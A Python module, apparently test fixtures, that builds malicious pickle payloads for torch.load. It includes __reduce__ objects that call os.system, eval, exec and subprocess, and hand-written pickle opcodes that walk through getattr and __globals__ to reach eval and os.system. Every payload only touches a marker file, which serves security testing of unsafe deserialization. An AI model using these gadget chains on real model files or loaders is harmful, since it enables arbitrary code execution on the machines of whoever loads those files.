"""Files that run code where everything is allowed when they are loaded."""

import contextlib
import os
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import torch


class Call:
    """Pickles as a call of any function."""

    def __init__(self, function: Callable, *arguments: object, state: object = None) -> None:
        self.parts = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self) -> tuple:
        return self.parts


def shell(target: Path) -> Call:
    return Call(os.system, f'touch {target}')


def evaluate(target: Path) -> Call:
    return Call(eval, f'open({str(target)!r}, "w").close()')


def execute(target: Path) -> Call:
    return Call(exec, f'open({str(target)!r}, "w").close()')


def process(target: Path) -> Call:
    return Call(subprocess.check_call, ['touch', str(target)])


def popen(target: Path) -> Call:
    return Call(subprocess.Popen, f'touch {target}', 0, None, None, None, None, None, True, True)


def write_file(target: Path) -> Call:
    return Call(open, str(target), 'w')


PAYLOADS = [shell, evaluate, execute, process, popen, write_file]


def run_unsafely(path: Path) -> None:
    """Load with everything allowed, as many programs do; whether it ends in an error does not matter."""
    with contextlib.suppress(Exception):
        torch.load(path, weights_only=False)


def wait_for(target: Path) -> bool:
    """Whether the payload has run; a process of its own may need a moment."""
    for _ in range(100):
        if target.exists():
            return True
        time.sleep(0.02)
    return False


def raw_call(function: bytes, *arguments: bytes) -> bytes:
    """Pickle instructions that call ``function`` (instructions too) with the arguments."""
    return function + b'(' + b''.join(arguments) + b'tR'


def text(value: str) -> bytes:
    return b'V' + value.encode() + b'\n'


def get(owner: bytes, name: str) -> bytes:
    return raw_call(b'cbuiltins\ngetattr\n', owner, text(name))


def builtins_by_getattr(target: Path) -> bytes:
    """``getattr`` is let through by name: walk from a function that torch allows to ``eval``."""
    names = get(b'ctorch._utils\n_rebuild_tensor_v2\n', '__globals__')
    builtins = raw_call(get(names, 'get'), text('__builtins__'))
    return raw_call(raw_call(get(builtins, 'get'), text('eval')), text(f'open({str(target)!r}, "w").close()'))


def module_by_getattr(target: Path) -> bytes:
    """The same to the module ``os``, which a module of torch's has imported."""
    names = get(b'ctorch._utils\n_rebuild_tensor_v2\n', '__globals__')
    modules = get(raw_call(get(names, 'get'), text('sys')), 'modules')
    return raw_call(get(raw_call(get(modules, 'get'), text('os')), 'system'), text(f'touch {target}'))
